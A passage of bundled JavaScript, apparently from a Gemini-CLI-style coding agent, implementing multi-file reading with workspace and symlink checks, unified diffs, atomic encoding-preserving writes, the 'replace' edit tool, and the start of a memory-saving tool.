    const lexical = external_node_path_default().resolve(workspace.root, normalized);
    const root = workspace.roots.find((candidate) => !(0,file_walk/* escapes */.r6)(external_node_path_default().relative(candidate, lexical)));
    if (root === undefined) {
        const refused = workspace.resolve(normalized, { purpose: 'read' });
        const reason = refused.ok ? 'outside the workspace' : refused.error.message;
        skipped.push({ path: pattern, reason });
        return;
    }
    const add = (absolutePath, explicit) => {
        if (!candidates.has(absolutePath))
            candidates.set(absolutePath, { absolutePath, root, explicit });
    };
    const walk = async (base, matches) => {
        const files = (0,file_walk/* walkFiles */.Fv)(base, {
            signal: context.signal,
            skipDirectory: (relative) => context.useDefaults &&
                (0,file_walk/* relativePosix */.Yn)(root, external_node_path_default().join(base, relative))
                    .split('/')
                    .some((name) => DEFAULT_EXCLUDED_DIRECTORY_NAMES.has(name)),
        });
        for await (const file of files) {
            if (!matches((0,file_walk/* relativePosix */.Yn)(root, file.absolutePath)))
                continue;
            // A symlink to a directory is not a file to read (and is never walked into).
            if (file.isSymbolicLink && !(await (0,promises_.stat)(file.absolutePath).catch(() => null))?.isFile()) {
                continue;
            }
            add(file.absolutePath, false);
        }
    };
    const existing = await (0,promises_.lstat)(lexical).catch(() => null);
    if (existing) {
        // A symlink to a directory counts as that directory once the workspace check allows it.
        const resolved = workspace.resolve(lexical, { purpose: 'read' });
        const target = resolved.ok ? await (0,promises_.stat)(resolved.absolutePath).catch(() => null) : null;
        if (target?.isDirectory() && resolved.ok)
            await walk(resolved.absolutePath, () => true);
        else
            add(lexical, true);
        return;
    }
    // Not an existing path: a glob, or a name in another letter case (matching ignores case).
    const relative = (0,file_walk/* relativePosix */.Yn)(root, lexical);
    const scan = picomatch_default().scan(relative);
    await walk(await existingAncestor(workspace, root, scan.isGlob ? scan.base : external_node_path_default().posix.dirname(relative)), picomatch_default()(relative, { dot: true, nocase: true }));
}
/**
 * The deepest existing directory on the way from `root` to `root/relative` that is reached
 * without a symlink, so the walk never starts outside the workspace.
 */
async function existingAncestor(workspace, root, relative) {
    for (let dir = relative; dir !== '' && dir !== '.'; dir = external_node_path_default().posix.dirname(dir)) {
        const absolutePath = external_node_path_default().join(root, dir);
        const resolved = workspace.resolve(absolutePath, { purpose: 'read' });
        if (!resolved.ok || resolved.absolutePath !== absolutePath)
            continue;
        const stats = await (0,promises_.stat)(absolutePath).catch(() => null);
        if (stats?.isDirectory())
            return absolutePath;
    }
    return root;
}
function exclusionMatcher(exclude, useDefaults, contextFileNames = ['GEMINI.md']) {
    const patterns = exclude.map((pattern) => {
        const normalized = pattern.replace(/\\/gu, '/').replace(/^\.\//u, '');
        return normalized.endsWith('/') ? `${normalized}**` : normalized;
    });
    if (useDefaults) {
        patterns.push(...DEFAULT_EXCLUDED_FILES, ...contextFileNames.map((name) => `**/${name}`));
    }
    const matcher = patterns.length === 0 ? () => false : picomatch_default()(patterns, { dot: true, nocase: true });
    return (rootRelative) => matcher(rootRelative) ||
        (useDefaults &&
            rootRelative
                .split('/')
                .slice(0, -1)
                .some((name) => DEFAULT_EXCLUDED_DIRECTORY_NAMES.has(name)));
}
/** Ignore files belong to the primary root: files elsewhere (other roots) are not filtered. */
function read_many_files_isIgnored(workspace, filter, paths) {
    return paths.some((candidate) => {
        const relative = external_node_path_default().relative(workspace.root, candidate);
        return !(0,file_walk/* escapes */.r6)(relative) && filter.isIgnored(relative);
    });
}
/**
 * Whether a pattern asks for this media file: it mentions the extension (`*.png`), or its last
 * segment starts with the file's name (`logo.*`, `diagram.png`).
 */
function requestedExplicitly(filePath, patterns) {
    const extension = external_node_path_default().extname(filePath).toLowerCase();
    const stem = external_node_path_default().basename(filePath, external_node_path_default().extname(filePath)).toLowerCase();
    return patterns.some((pattern) => {
        const lower = pattern.toLowerCase();
        const last = lower.split(/[\\/]/u).pop() ?? '';
        return ((extension !== '' && lower.includes(extension)) ||
            last === stem ||
            last.startsWith(`${stem}.`));
    });
}
async function readOne(workspace, file, patterns) {
    const { shown } = file;
    // Opened and checked again: the file may have been swapped for a symlink since it was found.
    const opened = await workspace.openVerified(file.absolutePath, { purpose: 'read' });
    if (!opened.ok) {
        const reason = opened.reason === 'not_in_workspace' ? opened.message : `Read error: ${opened.message}`;
        return { path: shown, reason };
    }
    try {
        if (!opened.stats.isFile())
            return { path: shown, reason: 'Read error: not a regular file' };
        const sizeMb = opened.stats.size / (1024 * 1024);
        if (sizeMb > read_file/* MAX_FILE_SIZE_MB */.sO) {
            const detail = `${file.realPath} (${sizeMb.toFixed(2)}MB)`;
            return {
                path: shown,
                reason: `Read error: File size exceeds the ${read_file/* MAX_FILE_SIZE_MB */.sO}MB limit: ${detail}`,
            };
        }
        const bytes = await opened.handle.readFile();
        const type = (0,read_file/* detectFileType */.uy)(file.realPath, bytes);
        const text = (content) => ({
            shown,
            part: `${SEPARATOR(file.absolutePath)}\n\n${content}\n\n`,
        });
        switch (type.kind) {
            case 'media': {
                if (!requestedExplicitly(file.absolutePath, patterns)) {
                    const kinds = type.label === 'image' || type.label === 'pdf' ? 'image/pdf' : 'audio/video';
                    return {
                        path: shown,
                        reason: `asset file (${kinds}) was not explicitly requested by name or extension`,
                    };
                }
                const data = bytes.toString('base64');
                return { shown, part: { inlineData: { mimeType: type.mimeType, data } } };
            }
            case 'unsupported_audio':
                return { path: shown, reason: 'Read error: Unsupported audio file format' };
            case 'binary':
                return text(`Cannot display content of binary file: ${shown}`);
            case 'svg':
                return bytes.length > SVG_MAX_BYTES
                    ? text(`Cannot display content of SVG file larger than 1MB: ${shown}`)
                    : text((0,read_file/* decodeText */.g7)(bytes));
            case 'text':
                return text(truncated((0,read_file/* decodeText */.g7)(bytes)));
        }
    }
    catch (error) {
        return { path: shown, reason: `Read error: ${(0,errors/* errorMessage */.gJ)(error)}` };
    }
    finally {
        await opened.handle.close();
    }
}
/** The first lines of a text, long lines cut, as `read_file` would show them by default. */
function truncated(content) {
    const lines = content.split(/\r?\n/u);
    let cut = lines.length > read_file/* DEFAULT_MAX_LINES */.ZZ;
    const shown = lines.slice(0, read_file/* DEFAULT_MAX_LINES */.ZZ).map((line) => {
        if (line.length <= read_file/* MAX_LINE_LENGTH */.l6)
            return line;
        cut = true;
        return `${line.slice(0, read_file/* MAX_LINE_LENGTH */.l6)}... [truncated]`;
    });
    return `${cut ? TRUNCATION_WARNING : ''}${shown.join('\n')}`;
}
function display(root, processed, skipped) {
    let text = `### ReadManyFiles Result (Target Dir: \`${root}\`)\n\n`;
    if (processed.length > 0) {
        text += `Successfully read and concatenated content from **${processed.length} file(s)**.\n`;
        text +=
            processed.length <= 10
                ? '\n**Processed Files:**\n'
                : '\n**Processed Files (first 10 shown):**\n';
        for (const file of processed.slice(0, 10))
            text += `- \`${file}\`\n`;
        if (processed.length > 10)
            text += `- ...and ${processed.length - 10} more.\n`;
    }
    if (skipped.length > 0) {
        if (processed.length === 0)
            text += 'No files were read and concatenated based on the criteria.\n';
        text +=
            skipped.length <= 5
                ? `\n**Skipped ${skipped.length} item(s):**\n`
                : `\n**Skipped ${skipped.length} item(s) (first 5 shown):**\n`;
        for (const item of skipped.slice(0, 5))
            text += `- \`${item.path}\` (Reason: ${item.reason})\n`;
        if (skipped.length > 5)
            text += `- ...and ${skipped.length - 5} more.\n`;
    }
    else if (processed.length === 0) {
        text += 'No files were read and concatenated based on the criteria.\n';
    }
    return text.trim();
}

// EXTERNAL MODULE: ./node_modules/diff/libesm/patch/create.js + 2 modules
var create = __webpack_require__(37291);
;// CONCATENATED MODULE: ./src/tools/file-diff.ts
/**
 * The diff of a proposed file change, as the policy, the transcript and the progress comment see
 * it: a unified diff with the workspace-relative path in its header (`a/…`, `b/…`, `/dev/null` for
 * a new file, the form `git apply` takes), line and character counts, and the `edit`
 * confirmation built from the same change. Whitespace is significant: a re-indentation is a change
 * a reviewer has to see.
 */


const CONTEXT_LINES = 3;
/**
 * The line diff costs about (file length × changed lines); past this many changed lines it is
 * slow and tells little, so the change is shown as the whole old text replaced by the whole new
 * text, which is still a correct patch.
 */
const MAX_EDIT_LENGTH = 1_000;
const HEADERS = { includeIndex: false, includeUnderline: false, includeFileHeaders: true };
/** The unified diff and its counts for one change. */
function diffChange(displayPath, originalContent, newContent) {
    const relative = !external_node_path_default().isAbsolute(displayPath);
    const oldName = originalContent === null ? '/dev/null' : relative ? `a/${displayPath}` : displayPath;
    const newName = relative ? `b/${displayPath}` : displayPath;
    const before = originalContent ?? '';
    const patch = (0,create/* structuredPatch */.YB)(oldName, newName, before, newContent, undefined, undefined, {
        context: CONTEXT_LINES,
        maxEditLength: MAX_EDIT_LENGTH,
    }) ?? wholeReplacement(oldName, newName, before, newContent);
    return { fileDiff: (0,create/* formatPatch */.Gu)(patch, HEADERS), diffStat: statOf(patch) };
}
/** What the tools return as `returnDisplay` after writing. */
function buildFileDiff(change) {
    const { fileDiff, diffStat } = diffChange(change.displayPath, change.originalContent, change.newContent);
    return {
        fileName: external_node_path_default().basename(change.absolutePath),
        filePath: change.absolutePath,
        fileDiff,
        originalContent: change.originalContent,
        newContent: change.newContent,
        diffStat,
    };
}
/** What a human would have been asked before the change is written. */
function buildEditConfirmation(change, title) {
    const { fileDiff } = diffChange(change.displayPath, change.originalContent, change.newContent);
    return {
        type: 'edit',
        title,
        fileName: external_node_path_default().basename(change.absolutePath),
        filePath: change.absolutePath,
        fileDiff,
        originalContent: change.originalContent,
        newContent: change.newContent,
    };
}
/** Counts `+`/`-` lines and their characters (without the marker or the line break). */
function statOf(patch) {
    const stat = {
        model_added_lines: 0,
        model_removed_lines: 0,
        model_added_chars: 0,
        model_removed_chars: 0,
    };
    for (const hunk of patch.hunks) {
        for (const line of hunk.lines) {
            if (line.startsWith('+')) {
                stat.model_added_lines += 1;
                stat.model_added_chars += line.length - 1;
            }
            else if (line.startsWith('-')) {
                stat.model_removed_lines += 1;
                stat.model_removed_chars += line.length - 1;
            }
        }
    }
    return stat;
}
function wholeReplacement(oldName, newName, before, after) {
    const removed = markedLines('-', before);
    const added = markedLines('+', after);
    const count = (lines) => lines.filter((line) => !line.startsWith('\\')).length;
    return {
        oldFileName: oldName,
        newFileName: newName,
        oldHeader: undefined,
        newHeader: undefined,
        hunks: [
            {
                oldStart: 1,
                oldLines: count(removed),
                newStart: 1,
                newLines: count(added),
                lines: [...removed, ...added],
            },
        ],
    };
}
function markedLines(marker, text) {
    if (text === '')
        return [];
    const endsWithBreak = text.endsWith('\n');
    const lines = (endsWithBreak ? text.slice(0, -1) : text).split('\n').map((line) => marker + line);
    if (!endsWithBreak)
        lines.push('\\ No newline at end of file');
    return lines;
}

// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
;// CONCATENATED MODULE: ./src/tools/file-io.ts
/**
 * Reading a text file the way an edit needs it and writing it back the way it was: the encoding
 * and byte-order mark kept, CRLF line endings restored, the permission bits kept, and every write
 * atomic (a temporary file in the same directory renamed over the target), so a crash or a full
 * disk never leaves half a file behind.
 */




/** New files: UTF-8 without a byte-order mark, the content written exactly as given. */
const NEW_FILE_FORMAT = { encoding: 'utf8', bom: false, lineEnding: '\n' };
/** Files larger than this are not read for editing (the same limit `read_file` applies). */
const MAX_EDITABLE_FILE_BYTES = 20 * 1024 * 1024;
/** Thrown when the file exists but could not be opened or read for another reason. */
class FileReadError extends Error {
    name = 'FileReadError';
}
/**
 * Reads the file at `absolutePath` (a path `Workspace.resolve` returned for writing) for editing,
 * through the workspace's checked open, so the text shown in a diff is the file that was checked.
 */
async function readExistingFile(workspace, absolutePath, options = {}) {
    const maxBytes = options.maxBytes ?? MAX_EDITABLE_FILE_BYTES;
    const opened = await workspace.openVerified(absolutePath, { purpose: 'write', flags: 'r' });
    if (!opened.ok) {
        switch (opened.reason) {
            case 'not_found':
                return { kind: 'missing' };
            case 'is_directory':
                return { kind: 'directory' };
            case 'not_regular_file':
                return { kind: 'not_regular' };
            case 'not_in_workspace':
                return { kind: 'refused', message: opened.message };
            case 'failed':
                throw new FileReadError(opened.message);
        }
    }
    const { handle, stats } = opened;
    try {
        if (stats.isDirectory())
            return { kind: 'directory' };
        if (!stats.isFile())
            return { kind: 'not_regular' };
        if (stats.size > maxBytes)
            return { kind: 'too_large', size: stats.size };
        const decoded = decodeText(await handle.readFile());
        const lineEnding = detectLineEnding(decoded.text);
        return {
            kind: 'file',
            content: lineEnding === '\r\n' ? decoded.text.replace(/\r\n/g, '\n') : decoded.text,
            format: { encoding: decoded.encoding, bom: decoded.bom, lineEnding },
            mode: stats.mode & 0o777,
            lossless: decoded.lossless,
        };
    }
    finally {
        await handle.close();
    }
}
/** CRLF when the text has line breaks and all of them are CRLF. */
function detectLineEnding(text) {
    const breaks = countOf(text, '\n');
    return breaks > 0 && countOf(text, '\r\n') === breaks ? '\r\n' : '\n';
}
function countOf(text, needle) {
    let count = 0;
    for (let at = text.indexOf(needle); at !== -1; at = text.indexOf(needle, at + needle.length)) {
        count += 1;
    }
    return count;
}
/** UTF-8 unless a byte-order mark names another Unicode encoding. */
function decodeText(bytes) {
    const [b0, b1, b2, b3] = [bytes[0], bytes[1], bytes[2], bytes[3]];
    if (b0 === 0xff && b1 === 0xfe && b2 === 0 && b3 === 0)
        return decodeUtf32(bytes, true);
    if (b0 === 0 && b1 === 0 && b2 === 0xfe && b3 === 0xff)
        return decodeUtf32(bytes, false);
    if (b0 === 0xef && b1 === 0xbb && b2 === 0xbf) {
        return { ...strictDecode(bytes.subarray(3), 'utf-8'), encoding: 'utf8', bom: true };
    }
    if (b0 === 0xff && b1 === 0xfe) {
        return { ...strictDecode(bytes.subarray(2), 'utf-16le'), encoding: 'utf16le', bom: true };
    }
    if (b0 === 0xfe && b1 === 0xff) {
        const body = bytes.subarray(2);
        const even = Buffer.from(body.subarray(0, body.length - (body.length % 2))).swap16();
        const decoded = strictDecode(even, 'utf-16le');
        return {
            text: decoded.text,
            lossless: decoded.lossless && body.length % 2 === 0,
            encoding: 'utf16be',
            bom: true,
        };
    }
    return { ...strictDecode(bytes, 'utf-8'), encoding: 'utf8', bom: false };
}
function strictDecode(bytes, label) {
    try {
        const text = new TextDecoder(label, { fatal: true, ignoreBOM: true }).decode(bytes);
        return { text, lossless: true };
    }
    catch {
        return { text: new TextDecoder(label, { ignoreBOM: true }).decode(bytes), lossless: false };
    }
}
function decodeUtf32(bytes, littleEndian) {
    const body = bytes.subarray(4);
    let text = '';
    let lossless = body.length % 4 === 0;
    for (let i = 0; i + 4 <= body.length; i += 4) {
        const code = littleEndian ? body.readUInt32LE(i) : body.readUInt32BE(i);
        const valid = code <= 0x10ffff && !(code >= 0xd800 && code <= 0xdfff);
        if (!valid)
            lossless = false;
        text += valid ? String.fromCodePoint(code) : '\uFFFD';
    }
    return { text, encoding: littleEndian ? 'utf32le' : 'utf32be', bom: true, lossless };
}
/** The bytes to store for `text` in `format` (CRLF restored, byte-order mark put back). */
function encodeText(text, format) {
    const withBreaks = format.lineEnding === '\r\n' ? text.replace(/\r?\n/g, '\r\n') : text;
    switch (format.encoding) {
        case 'utf8':
            return Buffer.concat([
                Buffer.from(format.bom ? [0xef, 0xbb, 0xbf] : []),
                Buffer.from(withBreaks, 'utf8'),
            ]);
        case 'utf16le':
            return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(withBreaks, 'utf16le')]);
        case 'utf16be':
            return Buffer.concat([
                Buffer.from([0xfe, 0xff]),
                Buffer.from(withBreaks, 'utf16le').swap16(),
            ]);
        case 'utf32le':
        case 'utf32be': {
            const codePoints = Array.from(withBreaks, (char) => char.codePointAt(0) ?? 0xfffd);
            const out = Buffer.alloc(4 + codePoints.length * 4);
            const littleEndian = format.encoding === 'utf32le';
            const write = (value, at) => littleEndian ? out.writeUInt32LE(value, at) : out.writeUInt32BE(value, at);
            write(0xfeff, 0);
            codePoints.forEach((code, index) => write(code, 4 + index * 4));
            return out;
        }
    }
}
/** Thrown when a directory on the way to the file turned out to be somewhere else. */
class PathChangedError extends Error {
    name = 'PathChangedError';
}
/**
 * Creates the directories above `absolutePath` one at a time. The path was resolved without
 * symlinks, so every directory on the way must be a real directory: a symlink found there now
 * appeared since the check, and nothing is created or written through it (`mkdir -p` would
 * follow it and create directories wherever it leads).
 */
async function ensureParentDirectory(absolutePath) {
    const directory = external_node_path_default().dirname(absolutePath);
    const { root } = external_node_path_default().parse(directory);
    let current = root;
    for (const part of directory.slice(root.length).split((external_node_path_default()).sep)) {
        if (part === '')
            continue;
        current = external_node_path_default().join(current, part);
        let stats = await (0,promises_.lstat)(current).catch((error) => {
            if (errorCode(error) === 'ENOENT')
                return null;
            throw error;
        });
        if (stats === null) {
            await (0,promises_.mkdir)(current).catch((error) => {
                if (errorCode(error) !== 'EEXIST')
                    throw error;
            });
            stats = await (0,promises_.lstat)(current);
        }
        if (stats.isSymbolicLink()) {
            throw new PathChangedError(`The directory ${current} changed while the file was being written (it is now a symlink); nothing was written.`);
        }
        if (!stats.isDirectory()) {
            throw Object.assign(new Error(`Not a directory: ${current}`), { code: 'ENOTDIR' });
        }
    }
}
/** Temporary names stay well under the usual 255-byte limit on a file name. */
const MAX_TEMP_BASE = 100;
/**
 * Writes by creating a new temporary file next to the target (through the workspace's checked
 * open, so it is created where the check says), flushing it, and renaming it over the target. The
 * rename replaces the directory entry, so a symlink or hard link that appeared at the target is
 * replaced rather than written through. `mode` sets the permission bits exactly (the old file's);
 * without it the new file gets the usual default.
 */
function atomicWriter(workspace) {
    return async (absolutePath, data, options) => {
        const base = external_node_path_default().basename(absolutePath).slice(0, MAX_TEMP_BASE);
        const temporary = external_node_path_default().join(external_node_path_default().dirname(absolutePath), `.${base}.${(0,external_node_crypto_.randomBytes)(6).toString('hex')}.tmp`);
        const opened = await workspace.openVerified(temporary, {
            purpose: 'write',
            flags: 'wx',
            mode: options.mode ?? 0o666,
        });
        if (!opened.ok) {
            if (opened.reason === 'not_in_workspace')
                throw new PathChangedError(opened.message);
            throw new Error(opened.message);
        }
        const { handle } = opened;
        try {
            try {
                await handle.writeFile(data);
                // The umask applied at creation; an existing file's bits are restored exactly.
                if (options.mode !== undefined)
                    await handle.chmod(options.mode);
                await handle.sync();
            }
            finally {
                await handle.close();
            }
            await (0,promises_.rename)(temporary, absolutePath);
        }
        catch (error) {
            await (0,promises_.unlink)(temporary).catch(() => undefined);
            throw error;
        }
    };
}
/** The message and error type the model reads when writing `absolutePath` failed. */
function describeWriteError(error, absolutePath) {
    const code = errorCode(error);
    if (error instanceof PathChangedError) {
        return { message: error.message, type: 'path_not_in_workspace' };
    }
    switch (code) {
        case 'EACCES':
        case 'EPERM':
        case 'EROFS':
            return {
                message: `Permission denied writing to file: ${absolutePath} (${code})`,
                type: 'permission_denied',
            };
        case 'ENOSPC':
        case 'EDQUOT':
            return {
                message: `No space left on device: ${absolutePath} (${code})`,
                type: 'no_space_left',
            };
        case 'EISDIR':
            return {
                message: `Target is a directory, not a file: ${absolutePath} (${code})`,
                type: 'target_is_directory',
            };
        case undefined:
            return {
                message: `Error writing to file: ${(0,errors/* errorMessage */.gJ)(error)}`,
                type: 'file_write_failure',
            };
        default:
            return {
                message: `Error writing to file '${absolutePath}': ${(0,errors/* errorMessage */.gJ)(error)} (${code})`,
                type: 'file_write_failure',
            };
    }
}
/** The `code` of a Node.js system error, if it has one. */
function errorCode(error) {
    const code = error?.code;
    return typeof code === 'string' ? code : undefined;
}

;// CONCATENATED MODULE: ./src/tools/replace.ts
/**
 * `replace`: exact text replacement in one file (the Gemini CLI's `edit` tool), and the machinery
 * `smart_edit` shares with it: plan the change from the file as it is now, show it as an `edit`
 * confirmation, then plan it again at execution (the file may have changed since) and write it
 * atomically, keeping the file's encoding, byte-order mark, CRLF line endings and mode.
 */





const REPLACE_TOOL_NAME = 'replace';
const READ_FILE_TOOL_NAME = 'read_file';
const replace_parameters = schemas/* object */.Ikc({
    file_path: schemas/* string */.YjP()
        .describe('The path of the file to modify: absolute, or relative to the workspace root.'),
    old_string: schemas/* string */.YjP()
        .describe('The exact literal text to replace, preferably unescaped. For single replacements (default), include at least 3 lines of context BEFORE and AFTER the target text, matching whitespace and indentation precisely. For multiple replacements, specify expected_replacements parameter. If this string is not the exact literal text (i.e. you escaped it) or does not match exactly, the tool will fail. An empty old_string creates a new file whose content is new_string.'),
    new_string: schemas/* string */.YjP()
        .describe('The exact literal text to replace `old_string` with, preferably unescaped. Provide the EXACT text. Ensure the resulting code is correct and idiomatic.'),
    expected_replacements: schemas/* number */.aig()
        .min(1)
        .describe('Number of replacements expected. Defaults to 1 if not specified. Use when you want to replace multiple occurrences.')
        .optional(),
});
/**
 * A replacement of the whole file, as the confirmation showed it, by the content a person wrote
 * instead (an empty `old_string` creates a file that did not exist).
 */
function wholeFileReplacement(change) {
    return { old_string: change.originalContent ?? '', new_string: change.newContent };
}
function createReplaceTool(options) {
    const { workspace } = options;
    return (0,define_tool/* defineTool */.u)({
        name: REPLACE_TOOL_NAME,
        displayName: 'Edit',
        description: `Replaces text within a file. By default, replaces a single occurrence, but can replace multiple occurrences when \`expected_replacements\` is specified. This tool requires providing significant context around the change to ensure precise targeting. Always use the ${READ_FILE_TOOL_NAME} tool to examine the file's current content before attempting a text replacement.

Expectation for required parameters:
1. \`file_path\` is the file to modify, absolute or relative to the workspace root.
2. \`old_string\` MUST be the exact literal text to replace (including all whitespace, indentation, newlines, and surrounding code etc.).
3. \`new_string\` MUST be the exact literal text to replace \`old_string\` with (also including all whitespace, indentation, newlines, and surrounding code etc.). Ensure the resulting code is correct and idiomatic.
4. NEVER escape \`old_string\` or \`new_string\`, that would break the exact literal text requirement.
**Important:** If ANY of the above are not satisfied, the tool will fail. CRITICAL for \`old_string\`: Must uniquely identify the single instance to change. Include at least 3 lines of context BEFORE and AFTER the target text, matching whitespace and indentation precisely. If this string matches multiple locations, or does not match exactly, the tool will fail.
**Multiple replacements:** Set \`expected_replacements\` to the number of occurrences you want to replace. The tool will replace ALL occurrences that match \`old_string\` exactly. Ensure the number of replacements matches your expectation.`,
        kind: 'edit',
        parameters: replace_parameters,
        withModifiedContent: (params, change) => ({
            file_path: params.file_path,
            ...wholeFileReplacement(change),
        }),
        validate(params) {
            const count = params.expected_replacements;
            if (count !== undefined && !Number.isInteger(count)) {
                return {
                    message: 'expected_replacements must be a positive integer.',
                    type: 'invalid_tool_params',
                };
            }
            return validateEditPath(workspace, params.file_path);
        },
        invocation: (params) => textEditInvocation({
            workspace,
            params,
            match: (content) => exactReplacement(content, params.old_string, params.new_string),
            expectedReplacements: params.expected_replacements ?? 1,
            ...(options.writeFile ? { writeFile: options.writeFile } : {}),
        }),
    });
}
/** Every non-overlapping occurrence replaced literally (no `$&` patterns), on LF text. */
function exactReplacement(content, oldString, newString) {
    const search = oldString.replace(/\r\n/g, '\n');
    const replacement = newString.replace(/\r\n/g, '\n');
    const pieces = content.split(search);
    return { occurrences: pieces.length - 1, newContent: pieces.join(replacement) };
}
/** Checks done when the call is built; execution checks again. */
function validateEditPath(workspace, filePath) {
    if (filePath.trim() === '') {
        return { message: "The 'file_path' parameter must be non-empty.", type: 'invalid_tool_params' };
    }
    const resolved = workspace.resolve(filePath, { purpose: 'write' });
    return resolved.ok ? null : resolved.error;
}
function textEditInvocation(options) {
    const { workspace, params } = options;
    const resolved = workspace.resolve(params.file_path, { purpose: 'write' });
    const shown = resolved.ok ? workspace.displayPath(resolved.absolutePath) : params.file_path;
    const description = `${params.old_string === '' ? 'Create' : 'Edit'} ${shown}`;
    const title = `Confirm Edit: ${shown}`;
    return {
        describe: () => description,
        locations: () => [resolved.ok ? resolved.relativePath : params.file_path],
        async confirmationDetails() {
            const plan = await planTextEdit(options);
            if (!plan.ok) {
                // Nothing would be written; the call still runs to give the model the reason.
                return {
                    type: 'info',
                    title,
                    prompt: `${description}: the edit cannot be applied (${plan.error.message})`,
                };
            }
            return buildEditConfirmation(plan.change, title);
        },
        async execute(signal) {
            const plan = await planTextEdit(options);
            if (!plan.ok)
                return replace_failure(plan.error);
            const { change } = plan;
            const written = await commitChange(change, {
                format: plan.format,
                mode: plan.mode,
                signal,
                writeFile: options.writeFile ?? atomicWriter(options.workspace),
            });
            if (written)
                return replace_failure(written);
            const message = change.originalContent === null
                ? `Created new file: ${change.absolutePath} with provided content.`
                : `Successfully modified file: ${change.absolutePath} (${plan.occurrences} replacements).`;
            return { llmContent: message, returnDisplay: buildFileDiff(change) };
        },
    };
}
async function planTextEdit(options) {
    const { workspace, params, expectedReplacements } = options;
    // Resolved again: the tree may have changed since the call was validated.
    const resolved = workspace.resolve(params.file_path, { purpose: 'write' });
    if (!resolved.ok)
        return { ok: false, error: resolved.error };
    const filePath = resolved.absolutePath;
    const refuse = (message, type) => ({
        ok: false,
        error: { message, type },
    });
    const proposed = (originalContent, newContent) => ({
        absolutePath: filePath,
        displayPath: workspace.displayPath(filePath),
        originalContent,
        newContent,
    });
    let existing;
    try {
        existing = await readExistingFile(workspace, filePath);
    }
    catch (error) {
        return refuse(`Error preparing edit: ${(0,errors/* errorMessage */.gJ)(error)}`, 'edit_preparation_failure');
    }
    switch (existing.kind) {
        case 'missing':
            if (params.old_string !== '') {
                return refuse(`File not found: ${filePath}`, 'file_not_found');
            }
            return {
                ok: true,
                change: proposed(null, params.new_string),
                format: NEW_FILE_FORMAT,
                mode: undefined,
                occurrences: 1,
            };
        case 'directory':
            return refuse(`Path is a directory, not a file: ${filePath}`, 'target_is_directory');
        case 'refused':
            return refuse(existing.message, 'path_not_in_workspace');
        case 'not_regular':
            return refuse(notRegularMessage(filePath), 'edit_preparation_failure');
        case 'too_large':
            return refuse(tooLargeMessage(filePath, existing.size), 'file_too_large');
        case 'file':
            break;
    }
    if (params.old_string === '') {
        return refuse(`File already exists, cannot create: ${filePath}`, 'attempt_to_create_existing_file');
    }
    if (!existing.lossless) {
        return refuse(`Cannot edit ${filePath}: it is not text in a supported encoding (UTF-8, or UTF-16/UTF-32 with a byte-order mark). No edits made. Use write_file to replace its whole content.`, 'read_content_failure');
    }
    const { occurrences, newContent } = options.match(existing.content);
    const error = occurrenceError({ filePath, occurrences, expectedReplacements, params });
    if (error)
        return { ok: false, error };
    if (newContent === existing.content) {
        return refuse(`No changes to apply. The new content is identical to the current content in file: ${filePath}`, 'edit_no_change');
    }
    return {
        ok: true,
        change: proposed(existing.content, newContent),
        format: existing.format,
        mode: existing.mode,
        occurrences,
    };
}
function occurrenceError(context) {
    const { filePath, occurrences, expectedReplacements, params } = context;
    if (occurrences === 0) {
        return {
            message: `Failed to edit, 0 occurrences found for old_string in ${filePath}. No edits made. The exact text in old_string was not found. Ensure you're not escaping content incorrectly and check whitespace, indentation, and context. Use ${READ_FILE_TOOL_NAME} tool to verify.`,
            type: 'edit_no_occurrence_found',
        };
    }
    if (occurrences !== expectedReplacements) {
        const term = expectedReplacements === 1 ? 'occurrence' : 'occurrences';
        return {
            message: `Failed to edit, Expected ${expectedReplacements} ${term} but found ${occurrences} for old_string in file: ${filePath}`,
            type: 'edit_expected_occurrence_mismatch',
        };
    }
    if (params.old_string.replace(/\r\n/g, '\n') === params.new_string.replace(/\r\n/g, '\n')) {
        return {
            message: `No changes to apply. The old_string and new_string are identical in file: ${filePath}`,
            type: 'edit_no_change',
        };
    }
    return null;
}
/**
 * Writes a planned change: parent directories for a new file, then the bytes atomically. Returns
 * the error the model should read, or null once the file is written. Nothing is written after
 * the call was cancelled.
 */
async function commitChange(change, options) {
    if (options.signal.aborted) {
        return { message: 'The call was cancelled before the file was written.', type: 'cancelled' };
    }
    try {
        if (change.originalContent === null)
            await ensureParentDirectory(change.absolutePath);
        await options.writeFile(change.absolutePath, encodeText(change.newContent, options.format), options.mode === undefined ? {} : { mode: options.mode });
        return null;
    }
    catch (error) {
        return describeWriteError(error, change.absolutePath);
    }
}
function replace_failure(error) {
    return { llmContent: error.message, returnDisplay: `Error: ${error.message}`, error };
}
function tooLargeMessage(filePath, size) {
    const limitMb = MAX_EDITABLE_FILE_BYTES / (1024 * 1024);
    return `File size exceeds the ${limitMb}MB limit: ${filePath} (${(size / (1024 * 1024)).toFixed(2)}MB)`;
}
function notRegularMessage(filePath) {
    return `Path is not a regular file: ${filePath}. Only regular files can be written.`;
}

// EXTERNAL MODULE: ./src/tools/run-shell-command.ts + 1 modules
var run_shell_command = __webpack_require__(85917);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
var external_node_os_default = /*#__PURE__*/__webpack_require__.n(external_node_os_);
;// CONCATENATED MODULE: ./src/tools/save-memory.ts
/**
 * `save_memory`: appends a fact under `## Gemini Added Memories` in the user's memory file
 * (`~/.gemini/GEMINI.md` by default), which later sessions load into their system instruction.
 * The file layout and the result JSON follow the Gemini CLI.
 */






const SAVE_MEMORY_TOOL_NAME = 'save_memory';
const MEMORY_SECTION_HEADER = '## Gemini Added Memories';
/** The file name sessions load as user memory from `~/.gemini/` (see `agent/context-files.ts`). */
const DEFAULT_MEMORY_FILE_NAME = 'GEMINI.md';
const save_memory_parameters = schemas/* object */.Ikc({
    fact: schemas/* string */.YjP()
        .describe('The specific fact or piece of information to remember. Should be a clear, self-contained statement.'),
});
/**
 * One line, without leading list dashes, and without angle brackets, so a saved fact can neither
 * start new Markdown structure nor close the tags its file is wrapped in inside later prompts.
 */
function sanitizeFact(fact) {
    return fact
        .replace(/[\r\n]/g, ' ')
        .trim()
        .replace(/^(-+\s*)+/, '')
        .trim()
        .replace(/[<>]/g, ' ');
}
/**
 * The file with `- <fact>` added at the end of the memories section; the section is appended
 * (after a blank line) when the file has none. Everything else in the file is kept as it was.
 */
function addMemoryEntry(current, fact) {
    const item = `- ${sanitizeFact(fact)}`;
    const headerAt = current.indexOf(MEMORY_SECTION_HEADER);
    if (headerAt === -1) {
